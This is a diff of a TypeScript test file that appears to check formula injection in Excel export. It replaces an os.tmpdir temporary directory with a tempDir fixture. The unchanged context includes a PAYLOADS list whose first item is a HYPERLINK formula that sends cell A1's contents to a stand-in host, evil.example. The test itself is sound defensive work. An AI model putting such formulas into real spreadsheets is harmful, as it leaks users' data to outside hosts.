@@ -6,11 +6,11 @@
 import ExcelJS from "exceljs";
 import JSZip from "jszip";
 import * as fs from "fs";
-import * as os from "os";
 import * as path from "path";
 import { run } from "../../src/cli/run";
 import { ModelWorkbook } from "../excel/realClient/workbook";
 import { hostOn } from "../excel/workbooks";
+import { tempDir } from "../fixtures/tempDir";
 
 /** The title block prints the unit name in capitals (A1), so cells are compared case-insensitively. */
 const same = (a: unknown, b: string) => typeof a === "string" && a.toUpperCase() === b.toUpperCase();
@@ -20,7 +20,7 @@ const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
 
 let dir: string;
 beforeAll(() => {
-  dir = fs.mkdtempSync(path.join(os.tmpdir(), "cchc-inject-"));
+  dir = tempDir("cchc-inject-");
 });
 afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
 
